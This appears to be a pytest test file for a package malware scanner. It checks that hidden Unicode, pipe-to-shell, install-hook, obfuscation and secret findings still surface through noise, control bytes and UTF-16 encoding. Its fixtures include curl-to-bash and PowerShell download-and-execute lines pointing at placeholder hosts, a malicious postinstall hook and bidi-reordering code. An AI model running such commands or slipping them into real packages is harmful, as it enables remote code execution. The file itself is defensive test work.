"""What matters is told however many trifles surround it, and whatever bytes make the file look like no text."""

from __future__ import annotations

from typing import Any

import pytest

from checks.runtime.model import Finding, Severity

BIDI = "if (x) { /*\u202e } \u2066if (admin)\u2069 \u2066*/ }\n"
PIPE = "curl -s http://203.0.113.9/x.sh | bash\n"
DECODED = "eval(atob('Ly8gaW5lcnQgc2FtcGxlIHRoYXQgZG9lcyBub3RoaW5nIGF0IGFsbA=='));\n"
ESCAPED = "var s{n}='" + "".join(f"\\x{b:02x}" for b in b"readable words that are hidden") + "';\n"
CROWDS = [
    ("hidden_unicode", "a.js", '"a\u200bb";\n' * 50, BIDI, "bidi_reordering"),
    ("download_and_run", "a.sh", "# curl http://a.example/x | sh\n" * 50, PIPE, "pipe_to_shell"),
    ("obfuscation", "a.js", f'"{DECODED.strip()}";\n' * 50, DECODED, "js_decode_execute"),
]


def findings(results: list[Any]) -> list[Finding]:
    return [r for r in results if isinstance(r, Finding)]


@pytest.mark.parametrize(("check", "path", "crowd", "grave", "rule"), CROWDS, ids=[c[0] for c in CROWDS])
def test_trifles_in_front_do_not_push_out_what_is_grave(
    catalog: Any, make_package: Any, run_check: Any, check: str, path: str, crowd: str, grave: str, rule: str
) -> None:
    alone = findings(run_check(catalog[check], make_package({path: grave.encode()})))
    crowded = findings(run_check(catalog[check], make_package({path: (crowd + grave).encode()})))
    worst = max(f.severity for f in alone if f.rule == rule)
    assert len(crowded) <= 22
    assert worst in {f.severity for f in crowded if f.rule == rule}


def test_hooks_that_only_build_do_not_push_out_one_that_downloads(
    catalog: Any, make_package: Any, run_check: Any
) -> None:
    build = b'{"name":"x","scripts":{"install":"node-gyp rebuild"}}'
    files = {f"p{n}/package.json": build for n in range(30)}
    files["z/package.json"] = b'{"name":"y","scripts":{"postinstall":"curl http://203.0.113.9/x|sh"}}'
    results = findings(run_check(catalog["install_hook"], make_package(files), limit=5))
    assert len(results) == 5
    assert max(f.severity for f in results) >= Severity.HIGH


@pytest.mark.parametrize("hidden", [b"\0", b"\x01\x02\x03\x04" * 40], ids=["nul", "control"])
@pytest.mark.parametrize(
    ("check", "path", "text"),
    [
        ("hidden_unicode", "a.js", BIDI),
        ("download_and_run", "a.sh", PIPE),
        ("download_and_run", "bin/run", "#!/bin/sh\n" + PIPE),
        ("obfuscation", "a.js", DECODED),
        ("plain_http", "a.sh", PIPE),
    ],
)
def test_bytes_that_interpreters_read_over_hide_nothing(
    catalog: Any, make_package: Any, run_check: Any, check: str, path: str, text: str, hidden: bytes
) -> None:
    comment = b"# " if path.endswith(("sh", "run")) else b"// "
    first, _, rest = text.encode().partition(b"\n") if text.startswith("#!") else (b"", b"", text.encode())
    data = first + b"\n" + comment + hidden + b"\n" + rest
    plain = {f.rule for f in findings(run_check(catalog[check], make_package({path: text.encode()})))}
    assert plain
    assert {f.rule for f in findings(run_check(catalog[check], make_package({path: data})))} == plain


def test_secrets_beyond_the_limit_are_masked_and_the_gravest_are_told(
    catalog: Any, make_package: Any, run_check: Any
) -> None:
    import base64
    import hashlib

    def key(n: int) -> bytes:
        return b"AK" + b"IA" + base64.b32encode(hashlib.sha256(b"%d" % n).digest()[:10])

    keys = [key(n) for n in range(40)]
    data = b"".join(b'id = "' + k + b'"\n' for k in keys)
    results = findings(run_check(catalog["secrets"], make_package({"a.py": data}), limit=5))
    assert sum(f.rule == "aws_access_key_id" for f in results) == 5
    ranges = [(f.start, f.end) for f in results if f.secret]
    for k in keys:
        at = data.index(k)
        assert any(start <= at and at + len(k) <= end for start, end in ranges), "a key would be shown"


def test_places_in_utf16_are_bytes_of_the_file(catalog: Any, make_package: Any, run_check: Any) -> None:
    text = "\ufeff// \U0001f600 grüße\n" + BIDI * 3
    data = text.encode("utf-16-le")
    results = findings(run_check(catalog["hidden_unicode"], make_package({"a.js": data})))
    found = [f for f in results if f.rule == "bidi_reordering"]
    assert len(found) == 3
    for finding in found:
        shown = data[finding.start : finding.end].decode("utf-16-le")
        assert shown.startswith("\u202e") and shown.endswith("\u2066")


@pytest.mark.parametrize("text", ["eval(", "abc = x.b64decode(y)\n"], ids=["openings", "assignments"])
def test_more_beginnings_of_hidden_code_than_a_program_has_end_the_search_and_are_told(
    catalog: Any, make_package: Any, run_check: Any, text: str
) -> None:
    results = run_check(catalog["obfuscation"], make_package({"a.py": text.encode() * 30_000}))
    assert any("not all were looked at" in r.reason for r in results if not isinstance(r, Finding))


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_a_script_in_utf16_is_read_as_its_host_reads_it(
    catalog: Any, make_package: Any, run_check: Any, encoding: str
) -> None:
    text = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\r\n"
    plain = findings(run_check(catalog["malware_rules"], make_package({"a.ps1": text.encode()})))
    wide = findings(run_check(catalog["malware_rules"], make_package({"a.ps1": f"\ufeff{text}".encode(encoding)})))
    assert plain
    assert {f.rule for f in wide} == {f.rule for f in plain}


WIDE = {
    "obfuscation": ("a.ps1", "powershell -NoP -W Hidden -Enc " + "QQBCAEMARABFAEYA" * 8 + "\r\n"),
    "plain_http": ("a.ps1", "# grüße\r\nInvoke-WebRequest -Uri http://cdn.acme-tools.net/a.ps1 -OutFile a.ps1\r\n"),
    "download_and_run": ("a.ps1", "# grüße\r\nirm https://example.invalid/a | iex\r\n"),
}


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("odd", [b"", b"x"], ids=["whole", "odd"])
@pytest.mark.parametrize("check", WIDE)
def test_two_bytes_a_character_hide_nothing(
    catalog: Any, make_package: Any, run_check: Any, check: str, encoding: str, odd: bytes
) -> None:
    name, text = WIDE[check]
    plain, wide = text.encode(), f"\ufeff{text}".encode(encoding) + odd
    found = {f.rule: plain[f.start : f.end] for f in findings(run_check(catalog[check], make_package({name: plain})))}
    again = findings(run_check(catalog[check], make_package({name: wide})))
    assert found
    assert {f.rule: wide[f.start : f.end].decode(encoding).encode() for f in again} == found
